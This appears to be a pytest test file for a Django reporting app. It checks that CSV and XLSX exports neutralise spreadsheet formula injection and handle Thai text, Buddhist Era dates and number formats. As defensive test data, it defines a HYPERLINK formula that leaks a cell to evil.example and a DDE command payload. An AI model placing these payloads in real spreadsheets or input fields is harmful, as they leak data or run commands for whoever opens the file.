"""Every CSV and XLSX download: no formula injection, a BOM, number formats, Buddhist Era dates and names."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from projects import spreadsheets
from projects.choices import ProjectStatus
from reports.views import common
from tests.factories import AgencyFactory, EvaluationFactory, ProgressReportFactory, ProjectFactory
from tests.reports.evaluation_setup import project_behind_plan

ATTACK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
# Each begins a formula in Excel, LibreOffice or Google Sheets.
ATTACKS = [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@given(st.text())
def test_no_text_is_left_to_begin_a_formula(text):
    cell = spreadsheets.neutralise(text)
    assert not cell.startswith(spreadsheets.FORMULA_STARTS)
    assert cell in (text, "'" + text)  # nothing else is changed


@given(st.decimals(allow_nan=False, allow_infinity=False) | st.integers() | st.dates())
def test_numbers_and_dates_stay_as_they_are(value):
    assert spreadsheets.neutralise(value) == value


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    rows = [["ชื่อ", "ผลต่าง"], *[[attack, Decimal("-10.00")] for attack in ATTACKS]]
    workbook = openpyxl.load_workbook(
        io.BytesIO(spreadsheets.write_xlsx(rows, title="t", formats=[None, spreadsheets.PERCENT]))
    )
    cells = list(workbook.active.iter_rows(min_row=2))
    assert [name.data_type for name, _ in cells] == ["s"] * len(ATTACKS)
    # XML reads a carriage return back as a line feed.
    assert [name.value for name, _ in cells] == ["'" + attack.replace("\r", "\n") for attack in ATTACKS]
    assert {gap.value for _, gap in cells} == {-10} and {gap.data_type for _, gap in cells} == {"n"}


def test_sheet_names_lose_the_characters_excel_refuses():
    assert spreadsheets.sheet_name("ไตรมาส 1/2566: [สรุป]*") == "ไตรมาส 1 2566   สรุป"
    assert len(spreadsheets.sheet_name("ก" * 40)) == 31


def test_file_names_carry_the_buddhist_era_day():
    assert spreadsheets.export_filename("projects-2566", "csv", day=date(2026, 11, 30)) == (
        "projects-2566-2569-11-30.csv"
    )


@pytest.fixture
def attacked(db, monkeypatch):
    """Staff typed a formula into a project's name, responsible person and phone, and the planner's comment."""
    monkeypatch.setattr(common, "local_today", lambda: date(2023, 2, 27))
    agency = AgencyFactory(name="สำนักงานเขตบางรัก")
    project = project_behind_plan(
        code="01000000-2456", agency=agency, name=ATTACK, responsible=ATTACK, phone="+66 2 224 0001"
    )
    EvaluationFactory(project=project, quarter=1, score=Decimal("80"), comment="-ควรเร่งรัด")
    late = ProjectFactory(
        code="01000000-2457", agency=agency, name="@SUM(A1)", responsible=ATTACK, status=ProjectStatus.ACTIVE
    )
    ProgressReportFactory(project=late, number=1, report_date=date(2023, 1, 24), progress=Decimal("15"))
    return project


EXPORTS = [
    (reverse("projects:list"), {"fiscal_year": "2566", "_export": "{}"}),
    (reverse("reports:quarter", kwargs={"fiscal_year": 2566, "quarter": 1}), {"export": "{}"}),
    (reverse("reports:overdue"), {"export": "{}"}),
]


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _get(client, url, params, export_format):
    response = client.get(url, {k: v.format(export_format) for k, v in params.items()})
    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheets.CONTENT_TYPES[export_format]
    return response


@pytest.mark.parametrize(("url", "params"), EXPORTS)
def test_csv_exports_neutralise_formulas_and_start_with_a_bom(client, attacked, url, params, planner):
    client.force_login(planner)
    response = _get(client, url, params, "csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + ATTACK in cells
    assert not [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS) and not _number(cell)]


@pytest.mark.parametrize(("url", "params"), EXPORTS)
def test_xlsx_exports_hold_no_formula_cells(client, attacked, url, params, planner):
    client.force_login(planner)
    response = _get(client, url, params, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert "'" + ATTACK in [cell.value for cell in cells]
    assert not [
        c for c in cells if isinstance(c.value, str) and c.value.startswith(spreadsheets.FORMULA_STARTS)
    ]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert response["Content-Disposition"].endswith('-2566-02-27.xlsx"') or url == EXPORTS[0][0]


def test_quarter_xlsx_formats_baht_percent_and_dates(client, attacked, planner):
    client.force_login(planner)
    response = _get(client, *EXPORTS[1], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["งบประมาณที่ใช้ไป (บาท)"].number_format == "#,##0.00"
    assert row["งบประมาณที่ใช้ไป (บาท)"].value == 410950
    assert row["ผลต่าง"].number_format == "0.00" and row["ผลต่าง"].value == -10
    assert row["รายงานล่าสุด"].is_date and row["รายงานล่าสุด"].number_format == spreadsheets.DATE
    assert row["ความเห็น สยป."].value == "'-ควรเร่งรัด"


@pytest.mark.parametrize(("url", "params"), EXPORTS)
def test_a_format_we_do_not_write_shows_the_page(client, attacked, url, params, planner):
    """django-tables2's own `render_to_response` asks `TableSpreadsheet.is_valid_format`: `pdf` is no download."""
    client.force_login(planner)
    response = client.get(url, {k: v.format("pdf") for k, v in params.items()})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
